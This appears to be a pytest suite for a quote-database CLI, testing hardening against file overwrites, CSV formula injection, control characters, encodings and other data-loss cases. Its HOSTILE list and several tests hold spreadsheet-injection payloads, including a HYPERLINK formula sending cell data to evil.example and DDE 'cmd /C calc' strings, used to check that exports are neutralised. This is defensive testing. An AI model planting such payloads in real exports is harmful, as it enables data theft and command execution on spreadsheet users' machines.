"""Issue 11: the twelve ways a command could lose data or break, each pinned by a test.

Every test here failed before the hardening change. They run on SQLite and
PostgreSQL wherever the back end matters.
"""

from __future__ import annotations

import csv
import io
import json
import os
import shutil
import sqlite3
import sys
from pathlib import Path

import pytest
from sqlalchemy import func, select, text
from sqlalchemy.exc import IntegrityError

from quotes.exports.csv_safety import neutralise, restore
from quotes.store.engine import open_database
from quotes.store.models import Quote, QuoteSource, Source, Speaker
from quotes.store.normalize import normalize_text, text_hash

# The worker processes import their function by module name (spawn).
sys.path.insert(0, str(Path(__file__).parent))

HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+1 for the tariff deal",
    "-5 percent is what they offered",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "'Tis the season for sovereignty",
    "'=1+1 is how the formula was quoted",
    "''=already guarded twice",
    "   =spaced formula",
]


def _counts(url: str) -> tuple[int, ...]:
    with open_database(url).session() as session:
        return tuple(
            session.scalar(select(func.count()).select_from(model)) or 0
            for model in (Quote, Speaker, Source, QuoteSource)
        )


def _one_line_error(result, code: int = 2) -> str:
    assert result.exit_code == code, result.output
    assert "Traceback" not in result.output
    assert "unexpected" not in result.output
    message = result.output.strip()
    assert message.count("\n") == 0, message
    return message


# 1. --rejects that is the input file -------------------------------------------------


def test_rejects_file_that_is_the_input_is_refused(cli, tmp_path: Path) -> None:
    big = tmp_path / "big.csv"
    rows = ["text,speaker"] + [f"Statement number {i},Speaker {i % 3}" for i in range(50)]
    big.write_text("\n".join([*rows, ",no text"]) + "\n", encoding="utf-8")
    before = big.read_bytes()
    message = _one_line_error(cli("import", str(big), "--rejects", str(big)))
    assert "input file" in message
    assert big.read_bytes() == before
    link = tmp_path / "rejects-link.csv"
    link.symlink_to(big)
    _one_line_error(cli("import", str(big), "--rejects", str(link)))
    assert big.read_bytes() == before
    assert _counts(cli.url)[0] == 0
    # a real rejects file still works, and is whole
    rejects = tmp_path / "rejects.csv"
    cli.ok("import", str(big), "--rejects", str(rejects))
    rows = list(csv.DictReader(rejects.open(encoding="utf-8")))
    assert [row["line"] for row in rows if row["line"]] == ["52"]
    assert _counts(cli.url)[0] == 50


# 2. outputs that are the database or its WAL -----------------------------------------


@pytest.mark.parametrize("backend", ["sqlite"], indirect=True)
def test_outputs_never_write_over_the_database(seeded, tmp_path: Path) -> None:
    db = Path(seeded.url)
    seeded.ok("stance", "label", "1", "--topic", "sovereignty", "--stance", "favor")
    before = db.read_bytes()
    hard = tmp_path / "hard-link.csv"
    os.link(db, hard)
    soft = tmp_path / "soft-link.csv"
    soft.symlink_to(db)
    targets = [str(db), f"{db}-wal", f"{db}-shm", str(hard), str(soft)]
    for target in targets:
        _one_line_error(seeded("export", "--output", target))
        _one_line_error(
            seeded(
                "timeline",
                "--topic",
                "sovereignty",
                "--format",
                "csv",
                "-o",
                target,
                "--speaker",
                "Mette Frederiksen",
            )
        )
    bad = tmp_path / "bad.csv"
    bad.write_text("text,speaker\n,nobody\n", encoding="utf-8")
    for target in targets:
        _one_line_error(seeded("import", str(bad), "--rejects", target))
        _one_line_error(seeded("backup", target))
    assert db.read_bytes() == before
    assert sqlite3.connect(db).execute("select count(*) from quotes").fetchone()[0] > 0
    assert soft.is_symlink()


def test_output_through_a_symlink_replaces_the_link_not_its_target(seeded, tmp_path: Path) -> None:
    precious = tmp_path / "precious.txt"
    precious.write_text("keep me", encoding="utf-8")
    link = tmp_path / "out.csv"
    link.symlink_to(precious)
    seeded.ok("export", "--output", str(link))
    assert precious.read_text("utf-8") == "keep me"
    assert not link.is_symlink()
    assert link.read_text("utf-8").startswith("id,text,speaker")


# 3. spreadsheet formulas in CSV ------------------------------------------------------


def test_neutralise_and_restore_are_inverse() -> None:
    samples = [*HOSTILE, "", "'", "''", "plain", "-", "=", " ", "' =x", "\t=x", "a=b"]
    for sample in samples:
        assert restore(neutralise(sample)) == sample, sample
    assert neutralise("=1+1") == "'=1+1"
    assert neutralise("'Tis") == "'Tis"  # an ordinary apostrophe is left alone
    assert restore("'Tis") == "'Tis"
    assert neutralise(-0.5) == -0.5  # numbers are values, not formulas


def _csv_rows(output: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(output.lstrip("\ufeff"))))


def test_every_csv_output_is_neutralised_unless_raw(cli) -> None:
    cli.ok("init")
    formula = HOSTILE[0]
    cli.ok("speakers", "add", "=cmd|' /C calc'!A0")
    added = cli.ok("add", formula, "--speaker", "=cmd|' /C calc'!A0", "--date", "2026-01")
    quote_id = added.stdout.strip()
    cli.ok("stance", "label", quote_id, "--topic", "sovereignty", "--stance", "favor")
    outputs = {
        "export": cli.ok("export").output,
        "search": cli.ok("search", "HYPERLINK", "--csv", "--mode", "text").output,
        "speakers": cli.ok("speakers", "list", "--csv").output,
        "timeline": cli.ok(
            "timeline",
            "--topic",
            "sovereignty",
            "--speaker",
            "=cmd|' /C calc'!A0",
            "--format",
            "csv",
        ).output,
    }
    for name, output in outputs.items():
        for row in _csv_rows(output):
            for cell in row.values():
                assert not cell or cell[0] not in "=+-@\t\r", (name, cell)
    assert _csv_rows(outputs["export"])[0]["text"] == "'" + formula
    assert _csv_rows(outputs["timeline"])[0]["speaker"].startswith("'=")
    raw = cli.ok("export", "--raw-cells").output
    assert _csv_rows(raw)[0]["text"] == formula
    assert cli.ok("export", "--bom").output.startswith("\ufeffid,text")
    assert cli.ok("speakers", "list", "--csv", "--bom", "--raw-cells").output.startswith(
        "\ufeffname"
    )


def test_import_of_an_export_gives_back_the_exact_text(cli, tmp_path: Path) -> None:
    for number, quote in enumerate(HOSTILE):
        speaker = ["Ann", "Bob", "Cyd", "Dee", "Eve", "Fay", "Gus", "Hal"][number]
        cli.ok(
            "add",
            "-",
            "--speaker",
            f"{speaker} Q",
            "--new-speaker",
            "--outlet",
            "=Wire",
            input=quote,
        )
    exported = tmp_path / "export.csv"
    cli.ok("export", "--output", str(exported))
    with open_database(cli.url).session() as session:
        session.execute(text("DELETE FROM quotes"))
        session.execute(text("DELETE FROM sources"))
    cli.ok("import", str(exported))
    with open_database(cli.url).session() as session:
        texts = set(session.scalars(select(Quote.text)))
        outlets = set(session.scalars(select(Source.outlet)))
    assert texts == {" ".join(q.split()) for q in HOSTILE}
    assert outlets == {"=Wire"}
    # --raw-cells on both sides also round-trips
    raw = tmp_path / "raw.csv"
    cli.ok("export", "--output", str(raw), "--raw-cells")
    assert '"=HYPERLINK' in raw.read_text("utf-8")


# 4. concurrent adds on PostgreSQL; no SQL in errors -----------------------------------


def test_concurrent_adds_of_the_same_new_statements(cli) -> None:
    cli.ok("init")
    from concurrent_adds import run_concurrent_adds

    processes, adds = 8, 25
    failures = run_concurrent_adds(cli.url, processes, adds)
    assert failures == []
    with open_database(cli.url).session() as session:
        assert session.scalar(select(func.count()).select_from(Speaker)) == 1
        assert session.scalar(select(func.count()).select_from(Quote)) == adds
        assert session.scalar(select(func.count()).select_from(QuoteSource)) == processes * adds


def test_database_errors_show_no_sql_or_parameters(cli, monkeypatch) -> None:
    import quotes.records.quotes as commands

    def broken(*args: object, **kwargs: object) -> None:
        raise IntegrityError(
            "INSERT INTO speakers (name) VALUES (%(name)s)",
            {"name": "secret-parameter"},
            Exception('duplicate key value violates unique constraint "x"\nDETAIL: Key secret'),
        )

    monkeypatch.setattr(commands, "add_quote", broken)
    message = _one_line_error(cli("add", "words", "--speaker", "Someone"), code=1)
    assert "INSERT" not in message and "secret" not in message
    assert "duplicate key" in message and "--debug" in message


# 5. NUL and control characters --------------------------------------------------------


def test_nul_is_refused_the_same_on_both_back_ends(cli, tmp_path: Path) -> None:
    cli.ok("init")
    for args in (
        ["add", "nul\x00inside", "--speaker", "A Person"],
        ["add", "fine words", "--speaker", "A\x00Person"],
        ["add", "fine words", "--speaker", "A Person", "--context", "bell\x07"],
        ["add", "fine words", "--speaker", "A Person", "--outlet", "x\x1b[31m"],
        ["search", "nul\x00"],
    ):
        message = _one_line_error(cli(*args))
        assert "control character" in message, message
    assert _counts(cli.url) == (0, 0, 0, 0)
    data = tmp_path / "nul.csv"
    data.write_bytes(
        b"text,speaker\nGood row one,A Person\nBad \x00 row,A Person\nGood row two,B Person\n"
    )
    result = cli.ok("import", str(data), "--json")
    summary = json.loads(result.stdout)
    assert (summary["added"], summary["rejected"]) == (2, 1)
    assert "line 3" in summary["rejects"][0]["reason"]
    jsonl = tmp_path / "nul.jsonl"
    jsonl.write_text(
        json.dumps({"text": "json \u0000 nul", "speaker": "A Person"})
        + "\n"
        + json.dumps({"text": "json fine", "speaker": "A Person"})
        + "\n",
        encoding="utf-8",
    )
    summary = json.loads(cli.ok("import", str(jsonl), "--json").stdout)
    assert (summary["added"], summary["rejected"]) == (1, 1)


# 6. invalid UTF-8 arguments, huge ids, UTF-16 without a BOM ------------------------------


def test_invalid_utf8_arguments_are_bad_input(cli) -> None:
    cli.ok("init")
    bad = b"Fr\xe9deriksen".decode("utf-8", "surrogateescape")
    for args in (
        ["add", "words", "--speaker", bad],
        ["add", bad, "--speaker", "A Person"],
        ["add", "words", "--speaker", "A Person", "--context", bad],
        ["search", bad],
    ):
        assert "not valid UTF-8" in _one_line_error(cli(*args))
    result = cli.runner.invoke(_app(), ["show", "1", "--db", bad])
    assert "not valid UTF-8" in _one_line_error(result)
    assert _counts(cli.url)[0] == 0


def _app():
    from quotes.cli.main import app

    return app


@pytest.mark.parametrize("value", [2**31, 2**31 + 5, 2**63, 2**63 + 1, 10**30])
def test_ids_outside_the_integer_range_are_not_found(seeded, value: int) -> None:
    message = _one_line_error(seeded("show", str(value)), code=1)
    assert f"no quote with id {value}" in message
    message = _one_line_error(
        seeded("stance", "label", str(value), "--topic", "security", "--stance", "favor"), code=1
    )
    assert f"no quote with id {value}" in message
    for args in (
        ["history", str(value)],
        ["restore", str(value)],
        ["edit", str(value), "--text", "x"],
        ["delete", str(value), "--yes"],
    ):
        message = _one_line_error(seeded(*args), code=1)
        assert f"quote {value}" in message and "no " in message, message


@pytest.mark.parametrize("encoding", ["utf-16-le", "utf-16-be", "utf-32-le", "utf-32-be"])
def test_wide_file_without_bom_is_a_clear_error(cli, tmp_path: Path, encoding: str) -> None:
    data = tmp_path / "wide.csv"
    data.write_bytes("text,speaker\nSome words,A Person\n".encode(encoding))
    message = _one_line_error(cli("import", str(data)))
    assert "line 1" in message and f"--encoding {encoding}" in message
    cli.ok("import", str(data), "--encoding", encoding)
    assert _counts(cli.url)[0] == 1


# 7. database targets --------------------------------------------------------------------


def test_bad_database_targets_are_refused_and_nothing_is_created(run_cli, tmp_path) -> None:
    notes = tmp_path / "notes.txt"
    notes.write_text("my notes, not a database\n", encoding="utf-8")
    before = notes.read_bytes()
    for target in (str(notes), f"sqlite:///{notes}"):
        message = _one_line_error(run_cli("add", "words", "--speaker", "A B", "--db", target))
        assert "not a SQLite database" in message
        _one_line_error(run_cli("search", "x", "--db", target))
    assert notes.read_bytes() == before
    for target in ("mysql://user@localhost/quotes", "oracle://x/y", "sqlite+aiosqlite:///x.db"):
        assert "unsupported" in _one_line_error(
            run_cli("add", "w", "--speaker", "A", "--db", target)
        )
    for target in ("sqlite:///:memory:", "sqlite://", ":memory:"):
        assert "memory" in _one_line_error(run_cli("add", "w", "--speaker", "A", "--db", target))
    missing = tmp_path / "missing" / "folder" / "q.db"
    for args in (
        ["search", "x"],
        ["show", "1"],
        ["export"],
        ["speakers", "list"],
        ["topics", "list"],
        ["timeline", "--topic", "security"],
        ["shifts"],
        ["db", "current"],
    ):
        result = run_cli(*args, "--db", str(missing))
        assert result.exit_code in (0, 2), result.output
        assert not missing.parent.parent.exists(), args
    assert not Path(":memory:").exists()


def test_read_only_commands_do_not_migrate_an_empty_postgres_database(fresh_target, run_cli):
    if "://" not in fresh_target:
        pytest.skip("PostgreSQL only: SQLite is covered by the missing-path test")
    _one_line_error(run_cli("search", "x", "--db", fresh_target))
    with open_database(fresh_target, migrate=False).engine.connect() as connection:
        assert connection.execute(text("SELECT to_regclass('quotes')")).scalar() is None


# 8. dedup folding and invisible characters ---------------------------------------------


def test_superscripts_and_digits_stay_distinct_invisibles_do_not(seeded) -> None:
    assert text_hash("The bill is 10² billion") != text_hash("The bill is 102 billion")
    assert text_hash("½ of it") != text_hash("1/2 of it")
    assert text_hash("in Maßen") != text_hash("in Massen")
    assert text_hash("“Sovereignty” – ours") == text_hash('"sovereignty" - OURS')
    assert text_hash("ＡＢＣ 10") == text_hash("abc 10")
    assert normalize_text("sover\u200beign\u00adty\ufeff") == "sovereignty"
    first = seeded.ok("add", "The bill is 10² billion", "--speaker", "Ann Auditor")
    second = seeded.ok("add", "The bill is 102 billion", "--speaker", "Ann Auditor")
    assert first.stdout.strip() != second.stdout.strip()
    hidden = seeded.ok(
        "add", "Greenland is not for sale, said the arch\u200bipelago", "--speaker", "Ann Auditor"
    ).stdout.strip()
    again = seeded.ok(
        "add", "Greenland is not for sale, said the archipelago", "--speaker", "Ann Auditor"
    ).stdout.strip()
    assert hidden == again
    found = json.loads(seeded.ok("search", "archipelago", "--json", "--mode", "text").stdout)
    assert [hit["id"] for hit in found] == [int(hidden)]
    assert "\u200b" not in found[0]["text"]
    found = json.loads(seeded.ok("search", "arch\u2060ipelago", "--json", "--mode", "text").stdout)
    assert [hit["id"] for hit in found] == [int(hidden)]


# 9. the database file alone is whole after a command; backup ---------------------------


@pytest.mark.parametrize("backend", ["sqlite"], indirect=True)
def test_copying_the_database_file_alone_copies_everything(cli, tmp_path: Path) -> None:
    cli.ok("init")
    cli.ok("add", "Copied with the file alone.", "--speaker", "Cam Copier")
    copy = tmp_path / "elsewhere" / "copy.db"
    copy.parent.mkdir()
    shutil.copy(cli.url, copy)  # the -wal is not copied
    wal = Path(f"{cli.url}-wal")
    assert not wal.exists() or wal.stat().st_size == 0
    with sqlite3.connect(copy) as connection:
        assert connection.execute("select text from quotes").fetchall() == [
            ("Copied with the file alone.",)
        ]


def test_backup_command(cli, tmp_path: Path) -> None:
    cli.ok("init", "--seed")
    target = tmp_path / "backup.db"
    if "://" in cli.url:
        message = _one_line_error(cli("backup", str(target)))
        assert "pg_dump" in message
        assert not target.exists()
        return
    result = cli.ok("backup", str(target))
    assert "Backed up" in result.output
    with sqlite3.connect(target) as connection:
        copied = connection.execute("select count(*) from quotes").fetchone()[0]
        assert connection.execute("pragma journal_mode").fetchone()[0] == "delete"
    assert copied == _counts(cli.url)[0] > 0
    assert not Path(f"{target}-wal").exists()
    _one_line_error(cli("backup", str(tmp_path)))  # a directory


# 10. destructive downgrade -------------------------------------------------------------


def test_downgrade_needs_confirmation_and_takes_relative_revisions(seeded) -> None:
    from quotes.store import migrate

    head = migrate.head_revision()
    before = _counts(seeded.url)
    message = _one_line_error(seeded("db", "downgrade", "base"))
    assert "--yes" in message
    assert _counts(seeded.url) == before
    assert f"{head} (head)" in seeded.ok("db", "current").output
    from alembic.script import ScriptDirectory

    script = ScriptDirectory.from_config(migrate.alembic_config())
    previous = script.get_revision(head).down_revision
    result = seeded.ok("db", "downgrade", "-1", "--yes")
    assert f"revision {previous}" in result.output
    seeded.ok("db", "upgrade")
    assert _counts(seeded.url) == before


# 11. similar-speaker warnings ------------------------------------------------------------


def test_similar_speaker_warning_is_a_count_and_a_sample(cli, tmp_path: Path) -> None:
    known = [f"Alexandra Konstantinopoulou{i:03d}" for i in range(120)]
    first = tmp_path / "known.csv"
    first.write_text("text,speaker\n" + "".join(f"Known {n},{n}\n" for n in known), "utf-8")
    cli.ok("import", str(first))
    typos = tmp_path / "typos.csv"
    names = [n.replace("Konstantinopoulou", "Konstantinopulou") for n in known]
    typos.write_text("text,speaker\n" + "".join(f"Typo {n},{n}\n" for n in names), "utf-8")
    rejects = tmp_path / "rejects.csv"
    result = cli.ok("import", str(typos), "--rejects", str(rejects))
    warning = [line for line in result.stderr.splitlines() if "very close" in line]
    assert len(warning) == 1 and len(warning[0]) < 600, warning
    assert warning[0].startswith("120 new speaker(s)")
    listed = [row for row in csv.DictReader(rejects.open(encoding="utf-8")) if not row["line"]]
    assert len(listed) == 120
    summary = json.loads(cli.ok("import", str(typos), "--json").stdout)
    assert summary["speakers_created"] == 0  # created by the first import of the file


# 12. dates take ASCII digits only ------------------------------------------------------


@pytest.mark.parametrize("value", ["٢٠٢٦-٠١", "２０２６", "۲۰۲۶", "2026-٠١"])
def test_dates_take_ascii_digits_only(cli, tmp_path: Path, value: str) -> None:
    cli.ok("init")
    assert value in _one_line_error(cli("add", "words", "--speaker", "A B", "--date", value))
    _one_line_error(cli("search", "x", "--since", value))
    data = tmp_path / "dates.csv"
    data.write_text(f"text,speaker,date\nsome words,A B,{value}\n", encoding="utf-8")
    summary = json.loads(cli.ok("import", str(data), "--json").stdout)
    assert summary["rejected"] == 1
    summary = json.loads(cli.ok("import", str(data), "--json", "--date-format", "%Y-%m").stdout)
    assert summary["rejected"] == 1
    assert _counts(cli.url)[0] == 0
